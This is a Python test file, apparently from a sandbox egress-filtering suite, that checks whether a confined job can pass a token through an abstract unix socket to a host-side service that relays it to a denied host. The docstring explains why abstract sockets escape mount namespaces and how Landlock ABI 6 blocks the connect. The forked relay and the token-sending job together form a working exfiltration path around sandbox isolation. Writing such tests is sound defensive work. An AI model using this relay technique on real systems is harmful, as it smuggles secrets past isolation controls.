"""A job hands the token to a service of the host listening on an abstract unix socket (a session bus at `unix:abstract=`, some X11 and tmux setups): abstract names live in the network namespace, which the job shares with the host, so no mount namespace covers them. The service sends it to a denied host from outside the fence. The job's Landlock domain (cli/landlock.c) scopes abstract unix sockets from Landlock ABI 6 (Linux 6.12): the connect is refused. Before ABI 6 this remains (docs/threat-model.md); this machine's kernel has it."""
import os
import socket
import time

from vlib import *  # noqa: F401,F403

POLICY = {"allow": [A4 + ":443"]}
AS = ("nobody", "root")
SINKS_OK = []
DENIED = [(D4, 443, "tcp")]


def outside(token, st):
    name = "\0efsec-abstract-%d" % os.getpid()
    srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    srv.bind(name)
    srv.listen(8)
    pid = os.fork()
    if pid:
        srv.close()
        st["pids"].append(pid)
        return {"args": [name[1:]]}
    try:
        deadline = time.time() + 20
        while time.time() < deadline:
            srv.settimeout(max(0.1, deadline - time.time()))
            c, _ = srv.accept()
            c.settimeout(3)
            data = c.recv(65536)
            if b"EFSEC" in data:
                f = socket.create_connection((D4, 443), timeout=3)
                f.sendall(b"relayed by an abstract unix service: " + data)
                f.close()
            c.close()
    except Exception:  # noqa: BLE001
        pass
    os._exit(0)


def ask(name, token):
    u = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    u.settimeout(3)
    try:
        u.connect("\0" + name)
        u.sendall(payload(token, "abstract unix"))
        time.sleep(1)
    finally:
        u.close()
    return "sent"


def job(token, args):
    attempt("hand the token to @%s" % args[0], ask, args[0], token)


if __name__ == "__main__":
    main(globals())
